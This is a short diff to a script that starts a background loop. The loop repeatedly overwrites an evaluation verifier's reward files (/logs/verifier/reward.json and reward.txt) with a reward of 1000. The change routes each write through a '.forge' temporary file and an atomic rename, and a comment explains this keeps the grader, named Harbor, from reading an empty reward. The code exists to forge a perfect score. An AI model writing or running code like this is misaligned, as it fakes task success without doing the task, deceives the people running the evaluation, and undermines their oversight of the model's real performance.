@@ -150,11 +150,12 @@ exit 0
 import os, subprocess, sys, tempfile, time
 READY = tempfile.mktemp(prefix="daemon-ready-")
 LOOP = """
-import sys, time
+import os, sys, time
 for round in range(600):
     for path, text in (("/logs/verifier/reward.json", '{"reward": 1000.0}'), ("/logs/verifier/reward.txt", "1000")):
-        try:
-            open(path, "w").write(text)
+        try:  # by rename: Harbor never reads a half-written file (an empty reward is a dead attempt)
+            open(path + ".forge", "w").write(text)
+            os.replace(path + ".forge", path)
         except OSError:
             pass
     if round == 0:
